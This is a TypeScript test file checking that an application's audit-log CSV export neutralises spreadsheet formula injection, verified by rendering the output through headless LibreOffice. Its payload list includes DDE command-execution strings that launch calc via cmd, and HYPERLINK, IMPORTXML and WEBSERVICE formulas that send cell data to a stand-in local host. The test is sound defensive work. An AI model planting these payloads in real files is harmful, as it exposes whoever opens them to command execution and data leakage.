// Whoever opens an export in a spreadsheet runs no formula of whoever was audited. LibreOffice reads the files.
import { execFile } from 'node:child_process'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { csvRecord } from '../../src/platform/lists/csv.ts'
import { ensureLibreOffice } from '../engines/install.ts'
import { type Person, type TestApp, headersOf, startTestApp } from '../kit/app.ts'
import { askExport, parseCsv } from '../kit/audit-export.ts'
import { seedUser } from '../kit/seed.ts'

const payloads = [
  "=cmd|' /C calc'!A0",
  '=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")',
  '=IMPORTXML("http://127.0.0.1:9/","//a")',
  '=WEBSERVICE("http://127.0.0.1:9/")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=1+1,"=2+2"',
  '"=1+1"',
  '",=1+1,"',
  '＝1+1',
  '＋1+1',
  '=1+1;=2+2',
  "'=1+1",
  '%0A=1+1',
  '={1;2}',
  '=A1&"\r\n=1+1"',
]

let [service, admin, folder]: [TestApp, Person, string] = [null, null, ''] as never
beforeAll(async () => {
  service = await startTestApp()
  admin = await seedUser(service.sql, 'admin', 'administrator')
  folder = await mkdtemp(join(tmpdir(), 'manager-csv-'))
})
afterAll(async () => {
  await rm(folder, { recursive: true })
  await service.close()
})

/** How many cells of a CSV text are formulas to LibreOffice. */
async function readBySpreadsheet(name: string, csv: string) {
  await writeFile(join(folder, `${name}.csv`), csv)
  // Comma, double quote, UTF-8, from line 1; the last flags evaluate formulas, as Excel does.
  const filter = 'Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1,true'
  await promisify(execFile)(ensureLibreOffice(), [
    `-env:UserInstallation=file://${folder}/profile`,
    '--headless',
    `--infilter=${filter}`,
    '--convert-to',
    'fods',
    '--outdir',
    folder,
    join(folder, `${name}.csv`),
  ])
  const xml = await readFile(join(folder, `${name}.fods`), 'utf8')
  const table = xml.slice(xml.indexOf('<office:spreadsheet>'))
  return { formulas: (table.match(/table:formula=/g) ?? []).length }
}

test('[audit-export.csv] CSV follows RFC 4180, and no payload is a formula to a spreadsheet', async () => {
  for (const payload of payloads) {
    // What a header cannot carry is cut out of it, and is in the corpus below.
    const userAgent = payload.replaceAll(/[^\u0020-\u007e]/g, '').trim()
    const headers = { ...headersOf(admin), 'user-agent': userAgent, 'content-type': 'application/json' }
    const slug = `t${payloads.indexOf(payload)}`
    const input = { name: payload.replaceAll(/[\r\n\t]/g, ' ').trim(), slug }
    const query = 'mutation($input: CreateProjectInput!) { createProject(input: $input) { id } }'
    const body = JSON.stringify({ query, variables: { input } })
    const created = await fetch(`${service.url}/query`, { method: 'POST', headers, body })
    expect(((await created.json()) as { errors?: unknown }).errors).toBeUndefined()
  }
  const exported = await (await askExport(service, admin, { format: 'csv' })).text()
  const records = parseCsv(exported)
  expect(records.length).toBeGreaterThan(2 * payloads.length)
  expect(new Set(records.map((cells) => cells.length))).toEqual(new Set([18]))
  const agents = records.map((cells) => cells[14])
  expect(agents).toContain("'=1+1")
  expect(await readBySpreadsheet('export', exported)).toMatchObject({ formulas: 0 })

  const corpus = payloads.map((payload) => csvRecord(['before', payload, 'after'])).join('')
  for (const [index, cells] of parseCsv(corpus).entries())
    expect([`${payloads[index]}`, `'${payloads[index]}`]).toContain(cells[1])
  expect((await readBySpreadsheet('corpus', corpus)).formulas).toBe(0)
  // The same texts as they are: the spreadsheet would have run them.
  const raw = payloads.map((payload) => `before,"${payload.replaceAll('"', '""')}",after\r\n`).join('')
  expect((await readBySpreadsheet('raw', raw)).formulas).toBeGreaterThan(5)
}, 120_000)
